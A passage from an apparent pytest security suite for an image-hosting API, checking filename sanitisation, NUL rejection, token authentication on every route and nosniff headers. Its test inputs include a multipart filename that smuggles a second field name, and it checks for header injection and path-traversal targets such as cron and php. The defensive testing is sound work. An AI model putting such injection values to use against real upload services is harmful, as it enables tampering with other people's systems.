    "quote": b'a"; name="id',
}


def test_c42_client_filenames_are_labels_only(shared: Server) -> None:
    """C.42: whatever the filename (traversal, NUL, 4 KB, bidi override, CR/LF, quotes), the
    image gets a generated id, its bytes a generated key, and the name kept is a label: no
    control or format characters, at most 255 characters, never a header."""
    srv = add_account(shared, "c42")
    for name, filename in FILENAMES.items():
        r = post_form(srv, part("file", IMG, filename) + END)
        check(r, srv)
        assert "set-cookie" not in r.headers and "x-evil" not in r.headers
        if name == "quote":  # the smuggled name="id" renames the part: it is no file now
            assert_api_error(r, 400, 5400)
            continue
        assert r.status_code == 200, (name, r.text)
        result = r.json()["result"]
        uuid.UUID(result["id"])
        label = result["filename"]
        assert len(label) <= 255
        assert not re.search(r"[\x00-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]", label)
    stored = [p.relative_to(srv.data_dir).as_posix() for p in srv.data_dir.rglob("*")]
    assert not [p for p in stored if "cron" in p or "php" in p or "windows" in p]
    blobs = [p for p in stored if p.startswith(f"blobs/originals/{srv.account_id}/")]
    for path in blobs:  # originals/<account>/<2 hex>/<32 hex>: generated, never the name
        assert re.fullmatch(r"[0-9a-f]{2}(/[0-9a-f]{32})?", path.split("/", 3)[3]), path


def test_c42_metadata_and_creator_limits(shared: Server) -> None:
    """C.42: metadata over 1,024 bytes, a creator over 1,024 characters, and NUL anywhere in
    them are refused with 400 (PostgreSQL stores no NUL; see the PostgreSQL case below)."""
    srv = add_account(shared, "c42meta")
    with srv.client() as c:
        for fields in (
            {"metadata": '{"a": "' + "x" * 1100 + '"}'},
            {"creator": "c" * 1025},
            {"metadata": '{"a": "b\\u0000c"}'},
            {"metadata": '{"a\\u0000": 1}'},
            {"metadata": '{"a": ["\\u0000"]}'},
            {"creator": "a\x00b"},
            {"metadata.k": "v\x00"},
        ):
            r = c.post(srv.images_url, files={"file": ("a.jpg", IMG)}, data=fields)
            assert_api_error(r, 400, 5400)
        image = upload(srv, IMG, id="meta")
        patches = ({"metadata": {"k": "\x00"}}, {"creator": "\x00"}, {"metadata": {"x" * 1100: 1}})
        for patch in patches:
            assert_api_error(c.patch(f"{srv.images_url}/{image['id']}", json=patch), 400, 5400)
        v2 = srv.images_url.removesuffix("/v1") + "/v2"
        for params in ({"creator": "a\x00"}, {"meta.a[eq]": "\x00"}):
            assert_api_error(c.get(v2, params=params), 400, 5400)
        assert_api_error(c.get(srv.images_url, params={"creator": "a\x00"}), 400, 5400)


@pytest.fixture
def pg_url() -> Iterator[str]:
    """A fresh PostgreSQL database for one test (skipped if PostgreSQL is not reachable)."""
    admin = os.environ.get(
        "IMAGEGATE_TEST_POSTGRES_URL", "postgresql://postgres@127.0.0.1:5432/test"
    )
    try:
        conn = psycopg.connect(admin, autocommit=True, connect_timeout=3)
    except psycopg.Error as exc:
        pytest.skip(f"PostgreSQL not reachable: {' '.join(str(exc).split())[:100]}")
    name = f"imagegate_security_{secrets.token_hex(6)}"
    with conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    try:
        yield admin.rsplit("/", 1)[0] + "/" + name
    finally:
        with psycopg.connect(admin, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.mark.postgres
def test_c42_nul_in_text_fields_on_postgresql(tmp_path: Path, pg_url: str) -> None:
    """C.42 on PostgreSQL, which refuses NUL in text and JSONB: a NUL in a filename is
    dropped, in a creator, metadata or filter it is a 400; never a 5xx."""
    with launch(tmp_path / "data", database_url=pg_url) as srv:
        r = post_form(srv, part("file", IMG, b"a\x00.png") + END)
        assert r.status_code == 200 and r.json()["result"]["filename"] == "a.png", r.text
        with srv.client() as c:
            for fields in ({"creator": "a\x00"}, {"metadata": '{"a\\u0000": "\\u0000"}'}):
                r = c.post(srv.images_url, files={"file": ("a.jpg", IMG)}, data=fields)
                assert_api_error(r, 400, 5400)
            r = c.post(srv.images_url, files={"file": ("a.jpg", IMG)}, data={"id": "p"})
            assert r.status_code == 200
            assert_api_error(c.patch(f"{srv.images_url}/p", json={"creator": "\x00"}), 400)
            v2 = srv.images_url.removesuffix("/v1") + "/v2"
            assert_api_error(c.get(v2, params={"creator": "\x00"}), 400)
            assert_api_error(c.get(srv.images_url, params={"creator": "\x00"}), 400)
            assert_api_error(c.post(v2 + "/direct_upload", data={"creator": "x\x00"}), 400)


# --- C.43 authentication ------------------------------------------------------------------------

ROUTES = [
    ("POST", "/v1"),
    ("GET", "/v1"),
    ("GET", "/v1/some-id"),
    ("PATCH", "/v1/some-id"),
    ("DELETE", "/v1/some-id"),
    ("GET", "/v1/some-id/blob"),
    ("GET", "/v1/some-id/signed_url"),
    ("GET", "/v1/keys"),
    ("PUT", "/v1/keys/k"),
    ("DELETE", "/v1/keys/default"),
    ("GET", "/v1/variants"),
    ("POST", "/v1/variants"),
    ("GET", "/v1/variants/public"),
    ("PATCH", "/v1/variants/public"),
    ("DELETE", "/v1/variants/public"),
    ("GET", "/v1/config"),
    ("PATCH", "/v1/config"),
    ("GET", "/v1/stats"),
    ("GET", "/v2"),
    ("POST", "/v2/direct_upload"),
    ("POST", "/v1/direct_upload"),
    ("GET", "/v1/batch_token"),
]
CREDENTIALS = [None, "Bearer nope", "Bearer igt_" + "A" * 40, "Basic dXNlcjpwYXNz", "bearer", "x"]


def test_c43_every_management_route_needs_a_token(shared: Server) -> None:
    """C.43: no, empty, malformed or unknown credentials get 401 (code 10000) on every
    upload, edit, delete, variant, key and listing route, and change nothing. There is no
    cookie authentication on the API, so no CSRF surface (the dashboard's is tested in
    tests/dashboard/test_security.py)."""
    srv = add_account(shared, "c43")
    images = count_images(srv)
    base = f"{srv.base_url}/accounts/{srv.account_id}/images"
    with httpx.Client(timeout=30) as client:
        for method, path in ROUTES:
            for credential in CREDENTIALS:
                headers = {"Authorization": credential} if credential else {}
                r = client.request(method, base + path, headers=headers, json={})
                assert_api_error(r, 401, 10000)
                assert r.headers["cache-control"] == "no-store"
    assert count_images(srv) == images
    with srv.client() as c:
        assert c.get(f"{srv.images_url}/variants/public").status_code == 200
        assert [k["name"] for k in c.get(f"{srv.images_url}/keys").json()["result"]["keys"]] == [
            "default"
        ]
    r = httpx.post(f"{srv.base_url}/upload/{'A' * 43}", files={"file": ("a.jpg", IMG)})
    assert_api_error(r, 410, 5410)


# --- C.40, C.41 nosniff on every answer ---------------------------------------------------------


def test_c41_every_image_api_answer_and_error_says_nosniff(shared: Server) -> None:
    """C.40/C.41: images (delivered, revalidated and original), every API answer and every
    error carry ``X-Content-Type-Options: nosniff``, so no browser second-guesses a type."""
    srv = add_account(shared, "c41nosniff")
    image = upload(srv, jpeg(50, 40), id="n")
    upload(srv, jpeg(50, 40), id="p", requireSignedURLs="true")
    link = f"{srv.base_url}/{srv.account_hash}/n/public"
    with httpx.Client() as c, srv.client() as api:
        first = c.get(link)
        answers = {
            "image": first,
            "revalidated": c.get(link, headers={"If-None-Match": first.headers["etag"]}),
            "head": c.head(link),
            "denied": c.get(f"{srv.base_url}/{srv.account_hash}/p/public"),
            "not-found": c.get(f"{srv.base_url}/{srv.account_hash}/none/public"),
            "bad-url": c.get(f"{srv.base_url}/{srv.account_hash}/n/w=1,x=2"),
            "blob": api.get(f"{srv.images_url}/{image['id']}/blob"),
            "details": api.get(f"{srv.images_url}/{image['id']}"),
            "list": api.get(srv.images_url),
            "keys": api.get(f"{srv.images_url}/keys"),
            "api-401": c.get(srv.images_url),
            "api-404": api.get(f"{srv.images_url}/none"),
            "api-route-404": api.get(f"{srv.images_url}/a/b/c"),
            "api-400": api.post(f"{srv.images_url}/variants", json={}),
            "api-405": api.put(f"{srv.images_url}/stats"),
        }
    assert answers["revalidated"].status_code == 304
    for name, r in answers.items():
        assert r.headers.get("x-content-type-options") == "nosniff", (name, r.status_code)


def test_c41_operational_endpoints_say_nosniff(shared: Server) -> None:
    """C.41: the health, metrics and documentation endpoints say nosniff too."""
    with httpx.Client(base_url=shared.base_url, headers=METRICS_AUTH) as c:
        for path in ("/healthz", "/readyz", "/metrics", "/openapi.json", "/docs", "/redoc"):
            r = c.get(path)
            assert r.status_code == 200
            assert r.headers.get("x-content-type-options") == "nosniff", path
